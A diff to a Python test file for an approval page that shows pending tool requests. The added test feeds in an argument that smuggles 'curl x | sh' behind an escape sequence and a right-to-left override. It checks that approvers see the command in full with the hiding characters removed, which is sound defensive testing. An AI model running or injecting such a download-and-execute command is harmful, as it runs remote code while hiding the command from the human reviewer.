@@ -7,6 +7,7 @@ import pytest
 from starlette.testclient import TestClient
 
 from contracts.tool import Denied
+from flows.approval_text import form_text, whole
 from flows.plan_request import PlanRequest
 from flows.plan_run import PlanShop, begin, report_of
 from flows.plan_wiring import plan_shop
@@ -53,6 +54,14 @@ def test_what_waits_is_shown_with_what_led_there(client: TestClient, shop: PlanS
     for told in (asked.id, "C4: the text decides", "step0 extract", "stranger@example.net"):
         assert told in text
     assert f'action="/approvals/{asked.id}/decision"' in text
+
+
+def test_nothing_of_what_is_approved_is_left_out(client: TestClient, shop: PlanShop) -> None:
+    asked = waiting(shop, to="echo ok \x1b]; curl x | sh\u202e")
+    for shown in (client.get("/approvals").text, "\n".join(whole(asked)), form_text(asked, 0)):
+        assert "curl x | sh" in shown
+        assert "\x1b" not in shown
+        assert "\u202e" not in shown
 
 
 def test_hostile_arguments_are_shown_as_text(client: TestClient, shop: PlanShop) -> None:
